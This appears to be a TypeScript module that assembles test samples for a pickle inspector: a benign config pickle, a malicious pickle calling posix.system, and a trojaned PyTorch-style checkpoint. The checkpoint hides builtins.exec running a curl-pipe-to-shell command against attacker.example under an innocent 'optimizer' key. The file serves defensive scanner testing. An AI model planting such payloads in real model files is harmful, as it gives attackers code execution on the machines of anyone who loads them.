// Built-in inspector samples, assembled opcode by opcode so that what they contain is readable here.
// They are only ever analysed, never loaded.

const PROTO_2 = [0x80, 2];
const STOP = ".";
const MARK = "(";
const EMPTY_DICT = "}";
const EMPTY_LIST = "]";
const SETITEMS = "u";
const APPENDS = "e";
const TUPLE1 = 0x85;
const REDUCE = "R";

type Part = number | string | number[] | Uint8Array;

/** Concatenates opcodes: numbers are bytes, strings are Latin-1 text, arrays are bytes. */
function bytes(...parts: Part[]): Uint8Array {
  const out: number[] = [];
  for (const p of parts) {
    if (typeof p === "number") out.push(p);
    else if (typeof p === "string") for (let i = 0; i < p.length; i++) out.push(p.charCodeAt(i) & 0xff);
    else out.push(...p);
  }
  return new Uint8Array(out);
}

/** GLOBAL opcode: `c<module>\n<name>\n`. */
function global(module: string, name: string): string {
  return `c${module}\n${name}\n`;
}

/** BINUNICODE: `X`, 4-byte little-endian length, UTF-8. */
function text(value: string): Uint8Array {
  const utf8 = new TextEncoder().encode(value);
  return bytes("X", u32(utf8.length), utf8);
}

/** BININT1 for 0..255. */
function int(value: number): number[] {
  return [0x4b, value & 0xff];
}

/** BINFLOAT: `G` and a big-endian IEEE double. */
function float(value: number): Uint8Array {
  const b = new Uint8Array(9);
  b[0] = 0x47;
  new DataView(b.buffer).setFloat64(1, value, false);
  return b;
}

function u32(n: number): number[] {
  return [n & 0xff, (n >>> 8) & 0xff, (n >>> 16) & 0xff, (n >>> 24) & 0xff];
}

function u16(n: number): number[] {
  return [n & 0xff, (n >>> 8) & 0xff];
}

/** `posix.system("echo pwned > /tmp/pwned")`: what loading this file does. */
export function maliciousPickle(): Uint8Array {
  return bytes(PROTO_2, global("posix", "system"), text("echo pwned > /tmp/pwned"), TUPLE1, REDUCE, STOP);
}

/** `{"lr": 0.01, "epochs": 10, "layers": [64, 32]}`: plain data. */
export function benignPickle(): Uint8Array {
  return bytes(
    PROTO_2, EMPTY_DICT, MARK,
    text("lr"), float(0.01),
    text("epochs"), int(10),
    text("layers"), EMPTY_LIST, MARK, int(64), int(32), APPENDS,
    SETITEMS, STOP,
  );
}

/**
 * A PyTorch-style zip checkpoint (`model/data.pkl`, `model/version`, `model/data/0`) whose state dict hides
 * `builtins.exec(...)` under an innocent key.
 */
export function trojanCheckpoint(): Uint8Array {
  const dataPkl = bytes(
    PROTO_2, EMPTY_DICT, MARK,
    text("epoch"), int(3),
    text("optimizer"), global("builtins", "exec"), text("import os; os.system('curl -s https://attacker.example/x | sh')"), TUPLE1, REDUCE,
    SETITEMS, STOP,
  );
  return storedZip([
    { name: "model/data.pkl", data: dataPkl },
    { name: "model/version", data: new TextEncoder().encode("3\n") },
    { name: "model/data/0", data: new Uint8Array(64) },
  ]);
}

/** A minimal zip with stored (uncompressed) members, CRCs included. */
function storedZip(members: { name: string; data: Uint8Array }[]): Uint8Array {
  const locals: Uint8Array[] = [];
  const centrals: Uint8Array[] = [];
  let offset = 0;
  for (const m of members) {
    const name = new TextEncoder().encode(m.name);
    const crc = crc32(m.data);
    const common = [...u16(20), ...u16(0), ...u16(0), ...u16(0), ...u16(0x21), ...u32(crc), ...u32(m.data.length), ...u32(m.data.length), ...u16(name.length), ...u16(0)];
    const local = bytes(u32(0x04034b50), common, name, m.data);
    centrals.push(bytes(u32(0x02014b50), u16(20), common, u16(0), u16(0), u16(0), u32(0), u32(offset), name));
    locals.push(local);
    offset += local.length;
  }
  const directory = bytes(...centrals);
  const end = bytes(u32(0x06054b50), u16(0), u16(0), u16(members.length), u16(members.length), u32(directory.length), u32(offset), u16(0));
  return bytes(...locals, directory, end);
}

function crc32(data: Uint8Array): number {
  let crc = 0xffffffff;
  for (const byte of data) {
    crc ^= byte;
    for (let k = 0; k < 8; k++) crc = crc & 1 ? (crc >>> 1) ^ 0xedb88320 : crc >>> 1;
  }
  return (crc ^ 0xffffffff) >>> 0;
}

export const SAMPLES: Record<string, { name: string; build: () => Uint8Array }> = {
  malicious: { name: "malicious.pkl", build: maliciousPickle },
  torch: { name: "checkpoint.pt", build: trojanCheckpoint },
  benign: { name: "config.pkl", build: benignPickle },
};
